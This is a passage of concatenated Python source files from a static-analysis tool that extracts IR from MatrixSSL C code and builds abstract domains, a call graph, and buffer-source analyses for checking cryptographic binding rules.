            ok = {"<": 0 < c, "<=": 0 <= c, ">": 0 > c, ">=": 0 >= c}[op]
        elif s_ < 0:
            ok = {"<": True, "<=": True, ">": c < -1, ">=": c <= -1}[op]
        else:
            ok = {"<": c > 1, "<=": c >= 1, ">": True, ">=": True}[op]
        if ok:
            keep.add(s_)
    return norm(("G", frozenset(keep)))


NEG = {"==": "!=", "!=": "==", "<": ">=", "<=": ">", ">": "<=", ">=": "<"}
SWAP = {"==": "==", "!=": "!=", "<": ">", "<=": ">=", ">": "<", ">=": "<="}


def truth_filter(v, truth):
    """v assumed non-zero (truth) or zero."""
    return cmp_filter(v, "!=" if truth else "==", 0)


def mask_filter(v, mask, truth):
    """Refine v assuming (v & mask) != 0 (truth) or == 0."""
    if v == BOT:
        return BOT
    if v is not TOP and v[0] == "S":
        return norm(("S", frozenset(x for x in v[1] if bool(x & mask) == truth)))
    if v is TOP or v[0] in ("G", "N", "R"):
        kb = ("B", 0, 0)
    else:
        kb = v
    if not truth:
        if kb[2] & mask:
            return BOT
        return ("B", kb[1] | mask, kb[2] & ~mask)
    # some bit of mask is 1
    unknown = mask & ~kb[1]
    if kb[2] & mask:
        return norm(kb)
    if unknown == 0:
        return BOT
    if unknown & (unknown - 1) == 0:
        return ("B", kb[1] | unknown, kb[2] | unknown)
    return norm(kb)


def mask_eq_filter(v, mask, c, truth):
    """Refine v assuming (v & mask) == c (truth) / != c."""
    if v == BOT:
        return BOT
    if c & ~mask:
        return BOT if truth else v
    if v is not TOP and v[0] == "S":
        return norm(("S", frozenset(x for x in v[1] if ((x & mask) == c) == truth)))
    kb = ("B", 0, 0) if (v is TOP or v[0] in ("G", "N", "R")) else v
    if truth:
        common = kb[1] & mask
        if (kb[2] ^ c) & common:
            return BOT
        return ("B", kb[1] | mask, (kb[2] & ~mask) | c)
    # != : only decidable when all mask bits known
    if (kb[1] & mask) == mask and (kb[2] & mask) == c:
        return BOT
    if mask & (mask - 1) == 0:
        # single bit: (v&m) != c  <=> bit == !c
        return ("B", kb[1] | mask, (kb[2] & ~mask) | (mask if c == 0 else 0))
    return norm(kb)


def bits_or(v, c):
    if v is not TOP and v != BOT and v[0] == "S":
        return norm(("S", frozenset(x | c for x in v[1])))
    kb = ("B", 0, 0) if (v is TOP or v == BOT or v[0] in ("G", "N", "R")) else v
    return ("B", kb[1] | c, kb[2] | c)


def bits_andnot(v, c):
    """v & ~c"""
    if v is not TOP and v != BOT and v[0] == "S":
        return norm(("S", frozenset(x & ~c for x in v[1])))
    kb = ("B", 0, 0) if (v is TOP or v == BOT or v[0] in ("G", "N", "R")) else v
    return ("B", kb[1] | c, kb[2] & ~c)


def bits_and(v, c):
    """v & c (c constant): result has bits outside c known zero."""
    if v is not TOP and v != BOT and v[0] == "S":
        return norm(("S", frozenset(x & c for x in v[1])))
    kb = ("B", 0, 0) if (v is TOP or v == BOT or v[0] in ("G", "N", "R")) else v
    full = (1 << 64) - 1
    return norm(("B", (kb[1] | (full & ~c)), kb[2] & c))


def bit_known(v, mask):
    """Return 1/0 if all bits of mask are known set / known clear, else None."""
    if v is TOP or v == BOT:
        return None
    if v[0] == "S":
        r = set(bool(x & mask) for x in v[1])
        if len(r) == 1:
            return 1 if r.pop() else 0
        return None
    if v[0] == "B":
        if (v[1] & mask) == mask:
            if (v[2] & mask) == mask:
                return 1
            if (v[2] & mask) == 0:
                return 0
        if v[2] & mask:
            return 1
        return None
    return None


def show(v):
    if v is TOP:
        return "T"
    if v == BOT:
        return "BOT"
    if v[0] == "S":
        return "{" + ",".join(str(x) for x in sorted(v[1])) + "}"
    if v[0] == "G":
        return "sign{" + ",".join({-1: "-", 0: "0", 1: "+"}[x] for x in sorted(v[1])) + "}"
    if v[0] == "B":
        return "bits(mask=0x%x,val=0x%x)" % (v[1], v[2])
    if v[0] == "N":
        return "not{" + ",".join(str(x) for x in sorted(v[1])) + "}"
    if v[0] == "R":
        return "[%s..%s]" % ("-inf" if v[1] is None else v[1], "+inf" if v[2] is None else v[2])
    return str(v)
