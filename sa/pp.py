"""Pretty printing of IR expression trees (for diagnostics and debugging)."""


def pp(e, depth=0):
    if e is None:
        return "<null>"
    if depth > 40:
        return "..."
    k = e.get("k")
    d = depth + 1
    if k == "int":
        if "n" in e:
            return e["n"]
        return str(e["v"])
    if k == "str":
        return '"%s"' % e.get("v", "")
    if k == "var":
        return e["n"]
    if k == "fn":
        return e["n"]
    if k == "mem":
        return "%s%s%s" % (pp(e["b"], d), "->" if e.get("arrow") else ".", e["f"])
    if k == "idx":
        return "%s[%s]" % (pp(e["b"], d), pp(e["i"], d))
    if k == "un":
        op = e["op"]
        if op.startswith("post"):
            return "%s%s" % (pp(e["e"], d), op[4:])
        return "%s(%s)" % (op, pp(e["e"], d))
    if k == "bin":
        return "(%s %s %s)" % (pp(e["l"], d), e["op"], pp(e["r"], d))
    if k == "cond":
        return "(%s ? %s : %s)" % (pp(e["c"], d), pp(e["a"], d), pp(e["b"], d))
    if k == "call":
        fn = e.get("fn") or ("(*%s)" % pp(e.get("fp"), d))
        return "%s(%s)" % (fn, ", ".join(pp(a, d) for a in e.get("a", [])))
    if k == "cast":
        if e.get("imp"):
            return pp(e["e"], d)
        return "(%s)%s" % (e["t"], pp(e["e"], d))
    if k == "decl":
        v = e.get("var") or {}
        s = "%s %s" % (v.get("t", "?"), v.get("n", "?"))
        if "init" in e:
            s += " = " + pp(e["init"], d)
        return s
    if k == "ret":
        return "return %s" % (pp(e["e"], d) if "e" in e else "")
    if k == "init":
        return "{%s}" % ", ".join(pp(x, d) for x in e.get("e", []))
    if k == "other":
        return "<%s %s>" % (e.get("cls"), " ".join(pp(c, d) for c in e.get("ch", [])))
    return "<%s>" % k


def dump_function(f, out=None):
    import sys
    out = out or sys.stdout
    out.write("function %s  %s:%s  entry=B%s exit=B%s\n" % (
        f["name"], f["file"], f["line"], f.get("entry"), f.get("exit")))
    for b in f.get("blocks", []):
        out.write(" B%d%s\n" % (b["id"], (" [%s:]" % b["label"]) if "label" in b else ""))
        for el in b["el"]:
            out.write("    %5d: %s\n" % (el["ln"], pp(el["x"])))
        t = b.get("term")
        if t:
            c = pp(t["c"]) if "c" in t else ""
            out.write("    T %s@%d %s %s\n" % (t["k"], t["ln"], ("tid=%d" % t["tid"]) if "tid" in t else "", c))
        ss = []
        for s in b["succ"]:
            lab = ""
            if "case" in s:
                lab = "case %s" % s["case"]
            elif s.get("default"):
                lab = "default"
            ss.append("B%s%s" % (s["b"], (":" + lab) if lab else ""))
        out.write("    -> %s\n" % ", ".join(ss))


if __name__ == "__main__":
    import json
    import sys
    d = json.load(open(sys.argv[1]))
    for f in d["functions"]:
        if len(sys.argv) < 3 or f["name"] in sys.argv[2:]:
            dump_function(f)
