"""Flow-insensitive 'source set' analysis for byte buffers and scalars.

For every local / parameter of a function it computes the set of *roots* whose
value may flow into it:
    ("F", record, field)   a read of that struct field
    ("P", i)               the i-th parameter of the function (value or pointee)
    ("C",)                 only present when a constant was stored (informational)
Writes considered: plain / compound assignment, declarations with initialiser,
indexed and dereferenced stores (`buf[i] = e`, `*p = e`, `buf[i] ^= e`),
memcpy/memmove/Memcpy-style copies, and calls to functions with bodies, whose
pointer parameters are summarised by the same analysis ("what the callee may
store through parameter j", expressed in the callee's own roots and then
substituted with the roots of the actual arguments).

The analysis is used for 'binding completeness' rules: e.g. the additional
data handed to an AEAD primitive must depend on the record sequence number.
It over-approximates what flows (union over all paths); a rule that demands a
root to be PRESENT is therefore a necessary-condition check, not a proof that
the right bytes are at the right offsets.
"""
from .ir import ASSIGN_OPS, strip, walk

COPY_FNS = {"memcpy": (0, 1), "memmove": (0, 1), "__builtin_memcpy": (0, 1), "__builtin_memmove": (0, 1),
            "__builtin___memcpy_chk": (0, 1), "__builtin___memmove_chk": (0, 1), "strncpy": (0, 1), "strcpy": (0, 1)}


def base_var(e):
    """Variable at the root of an lvalue / pointer expression (buf, buf+4, &buf[2], buf[i])."""
    e = strip(e)
    while e is not None:
        k = e.get("k")
        if k == "var":
            return e
        if k == "idx":
            e = strip(e["b"])
        elif k == "un" and e["op"] in ("&", "*"):
            e = strip(e["e"])
        elif k == "bin" and e["op"] in ("+", "-"):
            e = strip(e["l"])
        elif k == "cast":
            e = e["e"]
        elif k == "mem":
            return None
        else:
            return None
    return None


class BufSrc:
    def __init__(self, prog, cg):
        self.prog = prog
        self.cg = cg
        self.memo = {}
        self.stack = []

    # ------------------------------------------------------------------ per function
    def analyse(self, fn):
        """Return (varsrc, paramw): varsrc[id] = roots flowing into local id;
        paramw[i] = roots the function may store through its i-th parameter."""
        q = fn.qname
        if q in self.memo:
            return self.memo[q]
        if q in self.stack:
            return ({}, {})
        self.stack.append(q)
        try:
            res = self._analyse(fn)
        finally:
            self.stack.pop()
        self.memo[q] = res
        return res

    def _analyse(self, fn):
        pidx = {p.get("id"): i for i, p in enumerate(fn.params)}
        src = {}           # var id -> set(roots | ("V", id))
        edges = []         # (dst id, expression)  value of expression flows into dst

        def add(dst, roots):
            if dst is None:
                return
            src.setdefault(dst, set()).update(roots)

        def roots_of(e):
            out = set()
            for n in walk(e):
                k = n.get("k")
                if k == "mem" and "r" in n:
                    out.add(("F", n["r"], n["f"]))
                elif k == "var":
                    if "id" in n:
                        if n["id"] in pidx:
                            out.add(("P", pidx[n["id"]]))
                        out.add(("V", n["id"]))
                    else:
                        out.add(("G", n["n"]))
                elif k == "call":
                    # the value of a call depends on its arguments (already walked) - and, for
                    # functions with bodies, on what they read; keep it simple: arguments only
                    pass
            return out

        alias = []         # (pointer local id, variable id it points into): a store through the first is a store into the second

        def ptr_target(e):
            """variable a pointer-valued expression points into (`buf`, `buf + k`, `&buf[k]`), None for anything else"""
            e = strip(e)
            while e is not None and e.get("k") == "cast":
                e = strip(e["e"])
            if e is None:
                return None
            if e.get("k") == "var":
                return e if "*" in (e.get("t") or "") or "[" in (e.get("t") or "") else None
            if e.get("k") == "bin" and e["op"] in ("+", "-"):
                return ptr_target(e["l"])
            if e.get("k") == "un" and e["op"] == "&":
                return base_var(e["e"])
            return None

        def note_alias(dstvar, rhs):
            if dstvar is None or "id" not in dstvar or "*" not in (dstvar.get("t") or ""):
                return
            tv = ptr_target(rhs)
            if tv is not None and "id" in tv and tv["id"] != dstvar["id"]:
                alias.append((dstvar["id"], tv["id"]))

        for b, ln, n in fn.nodes():
            k = n.get("k")
            if k == "decl" and "init" in n:
                v = n.get("var") or {}
                if "id" in v:
                    add(v["id"], roots_of(n["init"]))
                    note_alias(v, n["init"])
            elif k == "bin" and n["op"] in ASSIGN_OPS:
                bv = base_var(n["l"])
                if bv is not None and "id" in bv:
                    add(bv["id"], roots_of(n["r"]))
                    # index expressions do not flow into the buffer
                    if n["op"] == "=" and (strip(n["l"]) or {}).get("k") == "var":
                        note_alias(strip(n["l"]), n["r"])
            elif k == "call":
                name = n.get("fn")
                args = n.get("a", [])
                if name in COPY_FNS and len(args) >= 2:
                    d, s_ = COPY_FNS[name]
                    bv = base_var(args[d])
                    if bv is not None and "id" in bv:
                        add(bv["id"], roots_of(args[s_]))
                    continue
                if name is None:
                    continue
                t = self.prog.resolve_call(fn, name)
                if t is None or not t.blocks:
                    continue
                cvars, cparamw = self.analyse(t)
                for j, roots in cparamw.items():
                    if j >= len(args):
                        continue
                    bv = base_var(args[j])
                    if bv is None or "id" not in bv:
                        continue
                    for r in roots:
                        if r[0] == "P":
                            if r[1] < len(args):
                                add(bv["id"], roots_of(args[r[1]]))
                        else:
                            add(bv["id"], {r})
        # resolve ("V", id) references to fixpoint
        changed = True
        while changed:
            changed = False
            for (pv, tv) in alias:
                extra = src.get(pv, set()) - src.setdefault(tv, set()) - {("V", tv)}
                if extra:
                    src[tv] |= extra
                    changed = True
            for vid, rs in src.items():
                for r in list(rs):
                    if r[0] == "V" and r[1] != vid:
                        extra = src.get(r[1], set()) - rs
                        if extra:
                            rs |= extra
                            changed = True
        varsrc = {vid: set(r for r in rs if r[0] != "V") for vid, rs in src.items()}
        paramw = {}
        for pid, i in pidx.items():
            t = fn.params[i].get("t", "")
            if ("*" in t or "[" in t) and pid in varsrc:
                paramw[i] = set(varsrc[pid]) - {("P", i)}
        return (varsrc, paramw)

    def arg_roots(self, fn, argexpr):
        """Roots of an actual argument expression: fields read directly, plus the source
        sets of the locals it mentions."""
        varsrc, _ = self.analyse(fn)
        pidx = {p.get("id"): i for i, p in enumerate(fn.params)}
        out = set()
        for n in walk(argexpr):
            k = n.get("k")
            if k == "mem" and "r" in n:
                out.add(("F", n["r"], n["f"]))
            elif k == "var" and "id" in n:
                if n["id"] in pidx:
                    out.add(("P", pidx[n["id"]]))
                out |= varsrc.get(n["id"], set())
        return out
