"""Compile database generation and IR extraction from the *current* working
tree of the repository (VERIF_REPO, default /repo).

Nothing is cached across runs: every check run regenerates the compile
database from `make -n -B` and re-runs cfgx over every translation unit
(185 TUs, ~3 s on 16 cores).
"""
import hashlib
import json
import os
import re
import shlex
import shutil
import subprocess
import sys
import tempfile
from concurrent.futures import ProcessPoolExecutor

VERIF = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
REPO = os.environ.get("VERIF_REPO", "/repo")
CFGX = os.path.join(VERIF, ".build", "cfgx")
LIB_DIRS = ["core", "crypto", "matrixssl"]


class AnalysisBroken(Exception):
    """Raised when the analysis itself cannot be carried out (exit code 2)."""


def ensure_cfgx():
    src = os.path.join(VERIF, "tools", "cfgx.cc")
    if (not os.path.exists(CFGX)) or os.path.getmtime(CFGX) < os.path.getmtime(src):
        r = subprocess.run(["make", "-C", os.path.join(VERIF, "tools")],
                           stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
        if r.returncode != 0:
            raise AnalysisBroken("cannot build cfgx:\n" + r.stdout[-2000:])
    return CFGX


def resource_dir():
    r = subprocess.run(["clang", "-print-resource-dir"], stdout=subprocess.PIPE, text=True)
    return r.stdout.strip()


def ensure_config(repo):
    need = ["crypto/cryptoConfig.h", "matrixssl/matrixsslConfig.h", "core/config/coreConfig.h"]
    if all(os.path.exists(os.path.join(repo, n)) for n in need):
        return
    # same action as the repository's own `make check-config`
    subprocess.run(["make", "check-config"], cwd=repo, stdout=subprocess.DEVNULL,
                   stderr=subprocess.DEVNULL)
    for n in need:
        if not os.path.exists(os.path.join(repo, n)):
            raise AnalysisBroken("configuration header missing: " + n)


def compile_db(repo=None, overlay_cfg=None):
    """Return [{dir, file, args}] for every library TU, parsed from make -n -B."""
    repo = repo or REPO
    ensure_config(repo)
    db = []
    seen = set()
    for d in LIB_DIRS:
        cwd = os.path.join(repo, d)
        r = subprocess.run(["make", "-n", "-B"], cwd=cwd, stdout=subprocess.PIPE,
                           stderr=subprocess.DEVNULL, text=True)
        cur = cwd
        for line in r.stdout.splitlines():
            m = re.match(r"make(\[\d+\])?: Entering directory '(.*)'", line)
            if m:
                cur = m.group(2)
                continue
            toks = line.split()
            if len(toks) < 3 or toks[0] not in ("cc", "gcc", "clang") or "-c" not in toks:
                continue
            try:
                toks = shlex.split(line.replace("`pwd`", cur))
            except ValueError:
                continue
            srcs = [t for t in toks[1:] if t.endswith(".c")]
            if len(srcs) != 1:
                continue
            src = os.path.normpath(os.path.join(cur, srcs[0]))
            if src in seen:
                continue
            seen.add(src)
            args = []
            skip = False
            for t in toks[1:]:
                if skip:
                    skip = False
                    continue
                if t == "-o":
                    skip = True
                    continue
                if t == "-c" or t.endswith(".c"):
                    continue
                if t.startswith("-O") or t.startswith("-W") or t.startswith("-f"):
                    continue
                args.append(t)
            if not any(a.startswith("-std=") for a in args):
                args.append("-std=gnu11")
            args += ["-w", "-O0"]
            db.append({"dir": cur, "file": src, "args": args})
    if len(db) < 150:
        raise AnalysisBroken("compile database has only %d units" % len(db))
    return db


def _run_one(job):
    cfgx, ent, out, resdir, extra = job
    cmd = [cfgx, out, ent["file"], "--"] + ent["args"] + ["-resource-dir", resdir] + extra
    r = subprocess.run(cmd, cwd=ent["dir"], stdout=subprocess.PIPE,
                       stderr=subprocess.PIPE, text=True)
    ok = r.returncode == 0 and os.path.exists(out)
    return (ent["file"], out, ok, r.stderr[-1500:])


def _norm_paths(tu, cwd):
    def ab(p):
        if not p:
            return p
        if not os.path.isabs(p):
            p = os.path.join(cwd, p)
        return os.path.normpath(p)
    for f in tu["functions"]:
        f["file"] = ab(f["file"])
    for g in tu["globals"]:
        g["file"] = ab(g["file"])
    for r in tu["records"]:
        r["file"] = ab(r["file"])
    for m in tu["macros"]:
        m["file"] = ab(m["file"])


def _load_one(args):
    path, cwd = args
    with open(path) as fh:
        tu = json.load(fh)
    _norm_paths(tu, cwd)
    return tu


def extract(repo=None, only=None, extra_flags=None, workdir=None):
    """Run cfgx over the compile database; return list of TU IR dicts."""
    repo = repo or REPO
    cfgx = ensure_cfgx()
    db = compile_db(repo)
    if only:
        db = [e for e in db if any(e["file"].endswith(o) for o in only)]
    resdir = resource_dir()
    tmp = workdir or tempfile.mkdtemp(prefix="cfgx-ir-")
    jobs = []
    for i, e in enumerate(db):
        out = os.path.join(tmp, "%03d.json" % i)
        jobs.append((cfgx, e, out, resdir, extra_flags or []))
    tus = []
    try:
        with ProcessPoolExecutor(max_workers=min(16, os.cpu_count() or 4)) as ex:
            res = list(ex.map(_run_one, jobs))
            bad = [(f, err) for (f, o, ok, err) in res if not ok]
            if bad:
                raise AnalysisBroken("cfgx failed on %d units, first: %s\n%s" % (
                    len(bad), bad[0][0], bad[0][1]))
            loads = [(o, e["dir"]) for (f, o, ok, err), e in zip(res, db)]
            tus = list(ex.map(_load_one, loads))
        for tu in tus:
            if tu.get("errors"):
                raise AnalysisBroken("front end reported %d errors in %s" % (tu["errors"], tu["main"]))
    finally:
        if not workdir:
            shutil.rmtree(tmp, ignore_errors=True)
    return tus


if __name__ == "__main__":
    import time
    t = time.time()
    tus = extract()
    print("TUs", len(tus), "functions", sum(len(t_["functions"]) for t_ in tus),
          "time %.1fs" % (time.time() - t))
