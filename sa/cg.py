"""Call graph (with slot-based resolution of calls through function
pointers) and field-based mod/ref summaries."""
from .ir import (ASSIGN_OPS, field_key, lvalue_root, strip, walk)

WHOLE = "*"


def type_record(t):
    """'struct ssl *' -> 'ssl', 'sslSec_t *' -> 'sslSec_t' (one level)."""
    if not t:
        return None
    t = t.strip()
    while t.endswith("*"):
        t = t[:-1].strip()
    if t.startswith("const "):
        t = t[6:]
    for p in ("struct ", "union "):
        if t.startswith(p):
            t = t[len(p):]
    if not t or " " in t or t in ("void", "char", "int"):
        return None
    return t


def expr_type(e):
    if e is None:
        return None
    return e.get("t")


MEMWRITE_FNS = {"memset": (0,), "memcpy": (0,), "memmove": (0,), "__builtin_memset": (0,),
                "__builtin_memcpy": (0,), "__builtin_memmove": (0,), "memset_s": (0,),
                "strcpy": (0,), "strncpy": (0,), "snprintf": (0,), "sprintf": (0,),
                "__builtin___memset_chk": (0,), "__builtin___memcpy_chk": (0,)}


class CallGraph:
    def __init__(self, prog):
        self.prog = prog
        self.slot_targets = {}     # slot -> set(function names)
        self.slot_external = set()  # slots that may hold application callbacks
        self.callees = {}          # qname -> set(qname) (resolved, with bodies)
        self.ext_callees = {}      # qname -> set(name) external
        self.callers = {}          # qname -> set(qname)
        self.direct_writes = {}    # qname -> set(key)
        self.writes = {}           # transitive
        self.indirect_sites = {}   # qname -> [(slot, callnode)]
        self.addr_taken = set()
        self._build_slots()
        self._build_edges()
        self._build_modref()

    # ------------------------------------------------------------ slots
    def _slot_of(self, e, fn):
        e = strip(e)
        if e is None:
            return None
        k = e.get("k")
        if k == "un" and e["op"] in ("*", "&"):
            return self._slot_of(e["e"], fn)
        if k == "mem" and "r" in e:
            return ("F", e["r"], e["f"])
        if k == "idx":
            return self._slot_of(e["b"], fn)
        if k == "var":
            if e.get("sc") == "p":
                idx = [i for i, p in enumerate(fn.params) if p.get("id") == e.get("id")]
                if idx:
                    return ("P", fn.qname, idx[0])
            if e.get("sc") in ("g", "s", "sl"):
                return ("G", e["n"])
            return ("L", fn.qname, e.get("id"))
        return None

    def _build_slots(self):
        prog = self.prog
        flows = {}   # dst slot -> set(src slot or ('FN', name))

        def add(dst, src):
            if dst is None or src is None:
                return
            flows.setdefault(dst, set()).add(src)

        def src_of(e, fn):
            e = strip(e)
            if e is None:
                return None
            if e.get("k") == "fn":
                self.addr_taken.add(e["n"])
                return ("FN", e["n"])
            if e.get("k") == "un" and e["op"] == "&":
                return src_of(e["e"], fn)
            if e.get("k") == "cond":
                return None
            return self._slot_of(e, fn)

        def is_fptr_type(t):
            return t is not None and "(*" in t

        # static initialisers
        def scan_init(init, rec=None):
            if init is None:
                return
            if init.get("k") == "init":
                if "rec" in init:
                    names = init.get("f", [])
                    for i, sub in enumerate(init.get("e", [])):
                        if i < len(names):
                            s = strip(sub)
                            if s is not None and s.get("k") == "fn":
                                self.addr_taken.add(s["n"])
                                add(("F", init["rec"], names[i]), ("FN", s["n"]))
                            elif s is not None and s.get("k") == "un" and s["op"] == "&" and strip(s["e"]).get("k") == "fn":
                                add(("F", init["rec"], names[i]), ("FN", strip(s["e"])["n"]))
                            else:
                                scan_init(sub)
                else:
                    for sub in init.get("e", []):
                        scan_init(sub)

        for name, lst in prog.globals.items():
            for g in lst:
                init = g.get("init")
                if init is None:
                    continue
                s = strip(init)
                if s.get("k") == "fn":
                    add(("G", name), ("FN", s["n"]))
                scan_init(init)

        for fn in prog.functions.values():
            for b, ln, n in fn.nodes():
                k = n.get("k")
                if k == "bin" and n["op"] == "=":
                    lt = n["l"].get("t") if isinstance(n["l"], dict) else None
                    rs = strip(n["r"])
                    if rs is None:
                        continue
                    if rs.get("k") == "fn" or is_fptr_type(strip(n["l"]).get("t")):
                        if rs.get("k") == "cond":
                            for arm in (rs["a"], rs["b"]):
                                add(self._slot_of(n["l"], fn), src_of(arm, fn))
                        else:
                            add(self._slot_of(n["l"], fn), src_of(rs, fn))
                elif k == "decl" and "init" in n:
                    v = n.get("var") or {}
                    if is_fptr_type(v.get("t")):
                        add(("L", fn.qname, v.get("id")), src_of(n["init"], fn))
                    scan_init(n["init"])
                elif k == "call":
                    callee = n.get("fn")
                    for i, a in enumerate(n.get("a", [])):
                        s = strip(a)
                        if s is None:
                            continue
                        if s.get("k") == "fn" or is_fptr_type(s.get("t")):
                            if callee:
                                tgt = prog.resolve_call(fn, callee)
                                if tgt is not None:
                                    add(("P", tgt.qname, i), src_of(s, fn))
                            else:
                                src_of(s, fn)

        # propagate to fixpoint
        targets = {}
        changed = True

        def get(s):
            return targets.setdefault(s, set())

        for dst, srcs in flows.items():
            for s in srcs:
                if s[0] == "FN":
                    get(dst).add(s[1])
        # parameters of externally visible functions may carry application callbacks
        while changed:
            changed = False
            for dst, srcs in flows.items():
                for s in srcs:
                    if s[0] == "FN":
                        continue
                    cur = get(dst)
                    add_ = get(s) - cur
                    if add_:
                        cur |= add_
                        changed = True
                    if s[0] == "P" and s not in flows:
                        if dst not in self.slot_external:
                            self.slot_external.add(dst)
                            changed = True
                    if s in self.slot_external and dst not in self.slot_external:
                        self.slot_external.add(dst)
                        changed = True
        self.slot_targets = targets
        self.flows = flows

    def resolve_indirect(self, fn, callnode):
        """Set of function names a call through a pointer may reach."""
        slot = self._slot_of(callnode.get("fp"), fn)
        if slot is None:
            return None, set()
        return slot, set(self.slot_targets.get(slot, ()))

    # ------------------------------------------------------------ edges
    def _build_edges(self):
        prog = self.prog
        for fn in prog.functions.values():
            cs = self.callees.setdefault(fn.qname, set())
            ex = self.ext_callees.setdefault(fn.qname, set())
            for b, ln, n in fn.calls():
                if "fn" in n:
                    tgt = prog.resolve_call(fn, n["fn"])
                    if tgt is not None:
                        cs.add(tgt.qname)
                    else:
                        ex.add(n["fn"])
                else:
                    slot, names = self.resolve_indirect(fn, n)
                    self.indirect_sites.setdefault(fn.qname, []).append((slot, n))
                    for nm in names:
                        tgt = prog.resolve_call(fn, nm)
                        if tgt is not None:
                            cs.add(tgt.qname)
        for f, cs in self.callees.items():
            for c in cs:
                self.callers.setdefault(c, set()).add(f)

    def call_targets(self, fn, callnode):
        """Functions (with bodies) a call node may reach."""
        prog = self.prog
        if "fn" in callnode:
            t = prog.resolve_call(fn, callnode["fn"])
            return [t] if t is not None else []
        slot, names = self.resolve_indirect(fn, callnode)
        out = []
        for nm in sorted(names):
            t = prog.resolve_call(fn, nm)
            if t is not None:
                out.append(t)
        return out

    def reachable_from(self, qname):
        seen = set()
        st = [qname]
        while st:
            x = st.pop()
            if x in seen:
                continue
            seen.add(x)
            st.extend(self.callees.get(x, ()))
        return seen

    def reaches(self, targets):
        """Set of functions from which some function in `targets` is reachable."""
        seen = set(targets)
        st = list(targets)
        while st:
            x = st.pop()
            for c in self.callers.get(x, ()):
                if c not in seen:
                    seen.add(c)
                    st.append(c)
        return seen

    # ------------------------------------------------------------ mod/ref
    def arg_write_keys(self, a):
        """Keys possibly written when expression `a` is passed to a callee as
        a pointer: &x->f, array field decay, pointer to whole record."""
        keys = set()
        s = strip(a)
        if s is None:
            return keys
        if s.get("k") == "un" and s["op"] == "&":
            r = lvalue_root(s["e"])
            if r and r[0] == "field":
                keys.add(("F",) + r[1])
            elif r and r[0] == "var" and r[1].get("sc") in ("g", "s", "sl"):
                keys.add(("G", r[1]["n"]))
        elif s.get("k") == "mem":
            # array member decays to pointer
            t = s.get("t", "")
            if "[" in t:
                keys.add(("F", s.get("r", "?"), s["f"]))
        elif s.get("k") == "bin" and s["op"] in ("+", "-"):
            keys |= self.arg_write_keys(s["l"])
        elif s.get("k") == "var" and s.get("sc") in ("g", "s", "sl") and "[" in s.get("t", ""):
            keys.add(("G", s["n"]))
        return keys

    def _direct_writes_fn(self, fn):
        ws = set()
        for b, ln, n in fn.nodes():
            k = n.get("k")
            tgt = None
            if k == "bin" and n["op"] in ASSIGN_OPS:
                tgt = n["l"]
            elif k == "un" and n["op"] in ("++", "--", "post++", "post--"):
                tgt = n["e"]
            if tgt is not None:
                r = lvalue_root(tgt)
                if r is None:
                    continue
                if r[0] == "field":
                    ws.add(("F",) + r[1])
                    # struct assignment of a record-typed field writes its members too
                elif r[0] == "var" and r[1].get("sc") in ("g", "s", "sl"):
                    ws.add(("G", r[1]["n"]))
                elif r[0] == "deref":
                    # *p = v with p pointer to record -> whole record write
                    p = r[1]
                    rec = type_record(p.get("t")) if p is not None else None
                    t = strip(tgt).get("t", "") if strip(tgt) else ""
                    if rec and (type_record(t) == rec) and "*" not in t:
                        ws.add(("F", rec, WHOLE))
                continue
            if k == "call":
                name = n.get("fn")
                args = n.get("a", [])
                external = name is not None and self.prog.resolve_call(fn, name) is None
                if external or name is None:
                    for i, a in enumerate(args):
                        ws |= self.arg_write_keys(a)
                    if name in MEMWRITE_FNS and args:
                        s = strip(args[0])
                        if s is not None and s.get("k") in ("var", "mem", "call"):
                            rec = type_record(s.get("t"))
                            if rec and rec in self.prog.records:
                                ws.add(("F", rec, WHOLE))
                else:
                    for a in args:
                        ws |= self.arg_write_keys(a)
        return ws

    def writes_refs(self, q):
        return self._wr.get(q, frozenset())

    def _build_modref(self):
        self._wr = {}
        for fn in self.prog.functions.values():
            self.direct_writes[fn.qname] = self._direct_writes_fn(fn)
            refs = set(self.direct_writes[fn.qname])
            for b, ln, n in fn.nodes():
                if n.get("k") == "mem" and "r" in n:
                    refs.add(("F", n["r"], n["f"]))
                elif n.get("k") == "var" and n.get("sc") in ("g", "s", "sl"):
                    refs.add(("G", n["n"]))
            self._wr[fn.qname] = frozenset(refs)
        # transitive closure (iterate to fixpoint)
        writes = {q: set(w) for q, w in self.direct_writes.items()}
        changed = True
        while changed:
            changed = False
            for q, cs in self.callees.items():
                w = writes[q]
                n0 = len(w)
                for c in cs:
                    if c != q:
                        w |= writes.get(c, set())
                if len(w) != n0:
                    changed = True
        self.writes = writes

    def may_write(self, qname, key):
        w = self.writes.get(qname, ())
        if key in w:
            return True
        if key[0] == "F" and ("F", key[1], WHOLE) in w:
            return True
        return False


class RetSets:
    """Flow-insensitive 'which integer constants may this function return'.
    retset[q] is a frozenset of ints, or None when some returned value has an
    untracked origin (arithmetic, parameter, external call, memory)."""

    LIMIT = 48

    def __init__(self, prog, cg):
        self.prog = prog
        self.cg = cg
        self.ret = {}
        self._build()

    def _assigns(self, fn):
        """local id -> list of RHS expressions assigned to it (None = untracked write)."""
        m = {}
        for b, ln, n in fn.nodes():
            k = n.get("k")
            if k == "decl":
                v = n.get("var") or {}
                if "id" in v:
                    m.setdefault(v["id"], []).append(n.get("init"))
                    if "init" not in n:
                        m[v["id"]].pop()
            elif k == "bin" and n["op"] in ASSIGN_OPS:
                l = strip(n["l"])
                if l is not None and l.get("k") == "var" and "id" in l:
                    m.setdefault(l["id"], []).append(n["r"] if n["op"] == "=" else None)
            elif k == "un" and n["op"] in ("++", "--", "post++", "post--"):
                l = strip(n["e"])
                if l is not None and l.get("k") == "var" and "id" in l:
                    m.setdefault(l["id"], []).append(None)
            elif k == "un" and n["op"] == "&":
                l = strip(n["e"])
                if l is not None and l.get("k") == "var" and "id" in l:
                    m.setdefault(l["id"], []).append(None)
        return m

    def _build(self):
        prog = self.prog
        fns = list(prog.functions.values())
        info = {}
        for fn in fns:
            rets = []
            for b, ln, x in fn.exprs():
                if x.get("k") == "ret" and "e" in x:
                    rets.append(x["e"])
            info[fn.qname] = (rets, self._assigns(fn), set(p.get("id") for p in fn.params))
            self.ret[fn.qname] = frozenset()
        changed = True
        rounds = 0
        while changed and rounds < 30:
            changed = False
            rounds += 1
            for fn in fns:
                rets, assigns, params = info[fn.qname]
                acc = set()
                top = False
                for e in rets:
                    r = self._sources(fn, e, assigns, params, set())
                    if r is None:
                        top = True
                        break
                    acc |= r
                    if len(acc) > self.LIMIT:
                        top = True
                        break
